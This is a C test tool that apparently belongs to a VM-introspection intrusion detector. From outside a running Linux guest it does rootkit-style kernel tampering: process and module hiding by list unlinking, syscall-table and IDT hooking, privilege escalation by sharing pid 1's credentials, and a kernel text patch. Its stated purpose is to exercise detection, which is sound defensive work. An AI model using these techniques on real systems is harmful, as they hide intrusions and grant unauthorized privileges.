/*
 * vmi_tamper - the attacker, for tests: changes a running guest's kernel
 * memory from outside the way a rootkit would from inside.
 *
 *   vmi_tamper MEMSPEC hide-pid PID
 *	unlink the task from init_task.tasks (DKOM); the task's own links
 *	point to itself so its exit later is harmless.  It stays in the
 *	PID table: the hidden-process cross-view must find it.
 *   vmi_tamper MEMSPEC hook-syscall NR SRC
 *	sys_call_table[NR] = sys_call_table[SRC]  (prints the old value)
 *   vmi_tamper MEMSPEC hide-module NAME
 *	unlink the module from the module list (its /sys/module kobject
 *	stays): the module cross-view must find it.
 *   vmi_tamper MEMSPEC share-cred PID
 *	point the task's cred and real_cred at pid 1's (a privilege
 *	escalation done by pointer); no reference counts are touched, so
 *	pick a task that does not exit while the guest runs.
 *   vmi_tamper MEMSPEC hook-idt VEC SRC
 *	IDT gate VEC gets gate SRC's handler (VEC 128, the 32-bit syscall
 *	gate, is never used by the lab guest).
 *   vmi_tamper MEMSPEC text-byte
 *	changes one int3 padding byte after a ret in kernel .text to a
 *	nop (harmless to run, but the text no longer matches); prints its
 *	address.
 *
 * Pause the guest (QMP stop) around hide-pid: the guest's own list
 * updates must not race with ours.  Test-only: never installed.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ids/checks.h"
#include "ids/linux.h"
#include "ids/mem.h"

static int
fail(const char *what, const struct vouch_err *e)
{
	fprintf(stderr, "vmi_tamper: %s: %s\n", what, e->msg);
	return 1;
}

static long
num(const char *s)
{
	char *end;
	long v;

	errno = 0;
	v = strtol(s, &end, 0);
	if (errno != 0 || *end != '\0' || v < 0) {
		fprintf(stderr, "vmi_tamper: bad number %s\n", s);
		exit(2);
	}
	return v;
}

/* Unlink the list_head at self from its ring and self-link it. */
static int
unlink_entry(struct vmi_linux *lx, uint64_t self, struct vouch_err *e)
{
	uint64_t links[2];

	if (vmem_read(&lx->vm, self, links, sizeof(links), e) < 0 ||
	    vmem_write(&lx->vm, links[1], &links[0], 8, e) < 0 ||
	    vmem_write(&lx->vm, links[0] + 8, &links[1], 8, e) < 0)
		return -1;
	links[0] = links[1] = self;
	return vmem_write(&lx->vm, self, links, sizeof(links), e) < 0 ? -1 : 0;
}

static int
hide_pid(struct vmi_linux *lx, long pid)
{
	struct vouch_err e = VOUCH_ERR_INIT;
	struct vmi_task *t;
	uint64_t self;
	size_t n, i;

	if (vmi_tasks(lx, &t, &n, &e) < 0)
		return fail("task list", &e);
	for (i = 0; i < n && t[i].pid != pid; i++)
		;
	if (i == n) {
		fprintf(stderr, "vmi_tamper: pid %ld not on the task list\n", pid);
		free(t);
		return 1;
	}
	self = t[i].addr + lx->off.task_tasks;
	free(t);
	if (unlink_entry(lx, self, &e) < 0)
		return fail("unlink", &e);
	printf("hid pid %ld (task_struct tasks at 0x%llx)\n", pid,
	    (unsigned long long)self);
	return 0;
}

static int
hook_syscall(struct vmi_linux *lx, long nr, long src)
{
	struct vouch_err e = VOUCH_ERR_INIT;
	uint64_t old, val;

	if (nr >= (long)lx->nr_syscalls || src >= (long)lx->nr_syscalls) {
		fprintf(stderr, "vmi_tamper: syscall number out of range (%u)\n",
		    lx->nr_syscalls);
		return 2;
	}
	if (vmem_read_u64(&lx->vm, lx->sys_call_table + 8ull * (uint64_t)nr,
	    &old, &e) < 0 || vmem_read_u64(&lx->vm, lx->sys_call_table +
	    8ull * (uint64_t)src, &val, &e) < 0)
		return fail("sys_call_table", &e);
	if (vmem_write(&lx->vm, lx->sys_call_table + 8ull * (uint64_t)nr, &val,
	    8, &e) < 0)
		return fail("write", &e);
	printf("sys_call_table[%ld]: 0x%llx -> 0x%llx\n", nr,
	    (unsigned long long)old, (unsigned long long)val);
	return 0;
}

static int
hide_module(struct vmi_linux *lx, const char *name)
{
	struct vouch_err e = VOUCH_ERR_INIT;
	struct vmi_module *m;
	size_t n, i;
	uint64_t at;

	if (vmi_modules(lx, &m, &n, &e) < 0)
		return fail("module list", &e);
	for (i = 0; i < n && strcmp(m[i].name, name) != 0; i++)
		;
	if (i == n) {
		fprintf(stderr, "vmi_tamper: module %s not loaded\n", name);
		free(m);
		return 1;
	}
	at = m[i].addr;
	free(m);
	if (unlink_entry(lx, at + lx->off.mod_list, &e) < 0)
		return fail("unlink", &e);
	printf("hid module %s (struct module at 0x%llx)\n", name,
	    (unsigned long long)at);
	return 0;
}

static int
share_cred(struct vmi_linux *lx, long pid)
{
	struct vouch_err e = VOUCH_ERR_INIT;
	struct vmi_task *t;
	uint64_t init_cred = 0, task = 0;
	size_t n, i;

	if (vmi_tasks(lx, &t, &n, &e) < 0)
		return fail("task list", &e);
	for (i = 0; i < n; i++) {
		if (t[i].pid == 1)
			init_cred = t[i].cred;
		if (t[i].pid == pid)
			task = t[i].addr;
	}
	free(t);
	if (init_cred == 0 || task == 0) {
		fprintf(stderr, "vmi_tamper: pid 1 or pid %ld not found\n", pid);
		return 1;
	}
	if (vmem_write(&lx->vm, task + lx->off.task_cred, &init_cred, 8, &e) < 0 ||
	    vmem_write(&lx->vm, task + lx->off.task_real_cred, &init_cred, 8,
	    &e) < 0)
		return fail("write", &e);
	printf("pid %ld now uses pid 1's cred 0x%llx\n", pid,
	    (unsigned long long)init_cred);
	return 0;
}

static int
hook_idt(struct vmi_linux *lx, long vec, long src)
{
	struct vouch_err e = VOUCH_ERR_INIT;
	uint8_t g[16], s[16];

	if (vec > 255 || src > 255)
		return 2;
	if (vmem_read(&lx->vm, lx->idt_table + 16ull * (uint64_t)vec, g, 16,
	    &e) < 0 || vmem_read(&lx->vm, lx->idt_table + 16ull *
	    (uint64_t)src, s, 16, &e) < 0)
		return fail("idt_table", &e);
	/* offset_low (0..1), offset_middle (6..7), offset_high (8..11) */
	memcpy(g, s, 2);
	memcpy(g + 6, s + 6, 6);
	if (vmem_write(&lx->vm, lx->idt_table + 16ull * (uint64_t)vec, g, 16,
	    &e) < 0)
		return fail("write", &e);
	printf("IDT vector %ld now enters vector %ld's handler\n", vec, src);
	return 0;
}

static int
text_byte(struct vmi_linux *lx)
{
	struct vouch_err e = VOUCH_ERR_INIT;
	uint8_t page[VMI_PAGE_SIZE];
	uint64_t va;
	size_t i;
	const uint8_t nop = 0x90;

	/* Skip the first MiB (entry code); look for "ret; int3". */
	for (va = (lx->stext + (1u << 20)) & ~(uint64_t)(VMI_PAGE_SIZE - 1);
	    va + VMI_PAGE_SIZE <= lx->etext; va += VMI_PAGE_SIZE) {
		if (vmem_read(&lx->vm, va, page, sizeof(page), &e) < 0)
			return fail("text", &e);
		for (i = 1; i + 1 < sizeof(page); i++) {
			if (page[i - 1] != 0xc3 || page[i] != 0xcc ||
			    page[i + 1] != 0xcc)
				continue;
			if (vmem_write(&lx->vm, va + i, &nop, 1, &e) < 0)
				return fail("write", &e);
			printf("text byte at 0x%llx: cc -> 90\n",
			    (unsigned long long)(va + i));
			return 0;
		}
	}
	fprintf(stderr, "vmi_tamper: no ret+int3 padding found\n");
	return 1;
}

int
main(int argc, char **argv)
{
	struct vouch_err e = VOUCH_ERR_INIT;
	struct vmi_mem *mem;
	struct vmi_linux *lx;
	int rc;

	if (argc < 3) {
		fprintf(stderr, "usage: vmi_tamper MEMSPEC hide-pid PID |"
		    " hook-syscall NR SRC | hide-module NAME |\n"
		    "       share-cred PID | hook-idt VEC SRC | text-byte\n");
		return 2;
	}
	if (vmi_mem_open(argv[1], VMI_MEM_WRITE, &mem, &e) < 0)
		return fail(argv[1], &e);
	if (vmi_linux_open(mem, NULL, &lx, &e) < 0) {
		vmi_mem_close(mem);
		return fail("profile", &e);
	}
	if (strcmp(argv[2], "hide-pid") == 0 && argc == 4)
		rc = hide_pid(lx, num(argv[3]));
	else if (strcmp(argv[2], "hook-syscall") == 0 && argc == 5)
		rc = hook_syscall(lx, num(argv[3]), num(argv[4]));
	else if (strcmp(argv[2], "hide-module") == 0 && argc == 4)
		rc = hide_module(lx, argv[3]);
	else if (strcmp(argv[2], "share-cred") == 0 && argc == 4)
		rc = share_cred(lx, num(argv[3]));
	else if (strcmp(argv[2], "hook-idt") == 0 && argc == 5)
		rc = hook_idt(lx, num(argv[3]), num(argv[4]));
	else if (strcmp(argv[2], "text-byte") == 0 && argc == 3)
		rc = text_byte(lx);
	else {
		fprintf(stderr, "vmi_tamper: unknown command\n");
		rc = 2;
	}
	vmi_linux_close(lx);
	vmi_mem_close(mem);
	return rc;
}
